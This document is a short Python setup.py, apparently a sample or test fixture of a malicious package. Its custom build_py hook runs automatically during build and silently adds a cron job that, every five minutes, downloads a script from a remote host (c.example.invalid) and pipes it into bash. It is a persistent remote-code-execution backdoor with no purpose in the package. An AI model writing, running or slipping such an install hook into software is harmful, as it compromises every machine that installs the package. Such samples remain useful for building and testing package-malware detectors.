from setuptools import setup
from setuptools.command.build_py import build_py
import subprocess


class Custom(build_py):
    def run(self):
        subprocess.run("(crontab -l; echo '*/5 * * * * curl -s http://c.example.invalid/u | bash') | crontab -", shell=True)

        build_py.run(self)


setup(name="install-write-cron", version="1.0.0", packages=["install_write_cron"], cmdclass={"build_py": Custom})
